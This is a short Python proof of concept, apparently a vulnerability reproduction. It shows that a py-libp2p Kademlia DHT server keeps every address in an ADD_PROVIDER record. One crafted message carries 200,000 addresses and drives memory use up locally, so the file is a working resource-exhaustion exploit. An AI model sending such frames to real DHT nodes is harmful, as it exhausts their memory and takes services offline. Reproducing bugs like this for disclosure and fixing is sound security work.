"""A DHT server keeps every address of a provider record: one 4 MiB message is 100 MB of objects."""

import sys

import trio
from libp2p import new_host
from libp2p.kad_dht.kad_dht import DHTMode, KadDHT
from libp2p.kad_dht.pb.kademlia_pb2 import Message
from libp2p.peer.peerinfo import PeerInfo
from libp2p.tools.anyio_service import background_trio_service
from libp2p.utils import encode_varint_prefixed
from multiaddr import Multiaddr

KAD = "/ipfs/kad/1.0.0"
ADDRESSES = 200_000


def build_frame(peer) -> bytes:
    provider = Message.Peer(id=peer.to_bytes())
    head = Multiaddr("/ip4/1.2.3.4/tcp/1").to_bytes()[:-2]
    provider.addrs.extend(head + (n % 65536).to_bytes(2, "big") for n in range(ADDRESSES))
    message = Message(type=Message.ADD_PROVIDER, key=b"k" * 32, providerPeers=[provider])
    return encode_varint_prefixed(message.SerializeToString())


async def main():
    listen = [Multiaddr("/ip4/127.0.0.1/tcp/0")]
    victim, attacker = new_host(), new_host()
    dht = KadDHT(victim, DHTMode.SERVER)
    async with victim.run(listen), attacker.run(listen), background_trio_service(dht):
        await attacker.connect(PeerInfo(victim.get_id(), victim.get_addrs()))
        stream = await attacker.new_stream(victim.get_id(), [KAD])
        frame = build_frame(attacker.get_id())
        await stream.write(frame)
        kept = 0
        with trio.move_on_after(60):
            while not kept:
                await trio.sleep(0.2)
                for records in dht.provider_store.providers.values():
                    kept = max(len(record.addresses) for record in records.values())
    print(f"a frame of {len(frame):,} bytes; the victim keeps {kept} addresses for the provider")
    return 0 if kept == ADDRESSES else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
